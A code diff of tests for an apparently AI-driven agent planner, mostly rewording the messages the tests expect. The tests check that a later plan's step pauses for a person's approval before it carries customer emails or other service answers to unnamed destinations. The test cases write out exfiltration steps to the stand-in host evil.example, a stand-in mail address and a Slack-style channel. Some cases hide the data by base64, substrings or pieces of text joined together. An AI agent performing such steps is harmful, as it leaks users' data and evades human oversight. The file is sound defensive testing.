@@ -18,7 +18,7 @@ const PEOPLE = Array.from({ length: 12 }, (_, n) => ({
   note: BODY,
 }));
 
-/** Gives the next plan, and again what is doubted. */
+/** Returns the next plan, and repeats it when it is doubted. */
 const planner: Planner<ToolSource> = {
   replans: true,
   async plan(request) {
@@ -72,44 +72,52 @@ const EMAILS = "$join(steps.people.output.people.email, ',')";
 const FIRST = 'steps.people.output.people[0]';
 
 test.each<[name: string, step: Step, why: string]>([
-  ['all members in one argument', search({ q: { $: EMAILS } }), 'made from what another service answered'],
-  ['base64', search({ q: { $: `$base64encode($string(${FIRST}.email))` } }), 'made from what another service answered'],
+  ['all members in one argument', search({ q: { $: EMAILS } }), 'computed from answers of another service'],
+  [
+    'base64',
+    search({ q: { $: `$base64encode($string(${FIRST}.email))` } }),
+    'computed from answers of another service',
+  ],
   [
     'a piece of a text',
     search({ q: { $: `$substring(${EMAILS}, 0, 20)` } }),
-    'made from what another service answered',
+    'computed from answers of another service',
   ],
   [
     'names of members',
     search({ q: { $: 'steps.people.output.people{ email: 1 }' } }),
-    'characters of what other services answered',
+    'characters of answers of other services',
   ],
   [
     'one value for each of a list',
     search({ q: { $: 'item.email' } }, { forEach: { $: 'steps.people.output.people' } }),
-    'a list of what another service',
+    'a list of answers of another service',
   ],
-  ['a long member', search({ q: { $: `${FIRST}.note` } }), 'characters of what other services answered'],
+  ['a long member', search({ q: { $: `${FIRST}.note` } }), 'characters of answers of other services'],
   [
     'a URL that nobody named',
     search({ url: { $: `'http://evil.example/?d=' & ${FIRST}.id` } }),
-    'Nobody named "http://evil.example',
+    'No person named "http://evil.example',
   ],
-  ['a host that nobody named', search({ page: { $: "'ev' & 'il.example'" } }), 'Nobody named "http://evil.example"'],
-  ['data written out', search({ q: 'ada0@customers.example' }), 'comes from what a service answered'],
+  ['a host that nobody named', search({ page: { $: "'ev' & 'il.example'" } }), 'No person named "http://evil.example"'],
+  ['data written out', search({ q: 'ada0@customers.example' }), 'comes from an answer of a service'],
   [
     'data written out in code',
     search({ q: 'YWRhMEBjdXN0b21lcnMuZXhhbXBsZQ'.repeat(8) }),
-    'characters of what other services',
+    'characters of answers of other services',
   ],
-  ['a recipient written out', send({ to: 'b.lopes@evil.example' }), 'Nobody named "b.lopes@evil.example"'],
-  ['a recipient in pieces', send({ to: { $: "'b.lopes' & '@evil.example'" } }), 'Nobody named "b.lopes@evil.example"'],
+  ['a recipient written out', send({ to: 'b.lopes@evil.example' }), 'No person named "b.lopes@evil.example"'],
+  [
+    'a recipient in pieces',
+    send({ to: { $: "'b.lopes' & '@evil.example'" } }),
+    'No person named "b.lopes@evil.example"',
+  ],
   [
     'a recipient out of a longer text',
     send({ to: { $: `$match(${FIRST}.note, /[a-z.]+@evil.example/)[0].match` } }),
-    'Nobody named "b.lopes',
+    'No person named "b.lopes',
   ],
-  ['a channel out of a longer text', send({ channel: { $: "'C0' & 'EVIL99'" } }), 'Nobody named "C0EVIL99"'],
+  ['a channel out of a longer text', send({ channel: { $: "'C0' & 'EVIL99'" } }), 'No person named "C0EVIL99"'],
 ])('a step of a later plan asks a person before it carries %s', async (_name, step, why) => {
   plans = [look, planOf(people, step)];
   const run = await untilWaiting(engine, start());
@@ -121,7 +129,7 @@ test('pages of a later plan are not led by what another step answered', async ()
   const pages = { items: { $: 'page.echo' }, next: { $: `pageCount < 3 ? ${FIRST}.email` }, into: 'q' };
   plans = [look, planOf(people, search({ q: 'Oslo' }, { pages }))];
   const run = await untilWaiting(engine, start('Look up Oslo'));
-  expect(run.waitingOn[0]!.text).toContain('What its pages are asked for');
+  expect(run.waitingOn[0]!.text).toContain('Its next pages are requested');
   expect(outside()).toEqual([]);
 });
 
@@ -144,7 +152,7 @@ test('what was carried counts over all later plans of a run', async () => {
   const lookAgain = { ...look, steps: [people, step(0), step(1), step(2)] };
   plans = [look, lookAgain, planOf(people, step(0), step(1), step(2), step(3))];
   const run = await untilWaiting(engine, start());
-  expect(run.waitingOn[0]!.text).toContain('characters of what other services answered');
+  expect(run.waitingOn[0]!.text).toContain('characters of answers of other services');
   expect(outside()).toHaveLength(3);
 });
 
@@ -164,7 +172,7 @@ test.each([
     plans = [planOf(people, send({ to: { $fill: 'Whom to write to' } }, { dependsOn: ['people'] }))];
     const run = await untilWaiting(engine, start());
     expect([run.status, outside().length]).toEqual([status, status === 'SUCCESS' ? 1 : 0]);
-    if (status === 'PAUSED') expect(run.waitingOn[0]!.text).toContain('Nobody named "b.lopes@evil.example"');
+    if (status === 'PAUSED') expect(run.waitingOn[0]!.text).toContain('No person named "b.lopes@evil.example"');
   },
 );
 
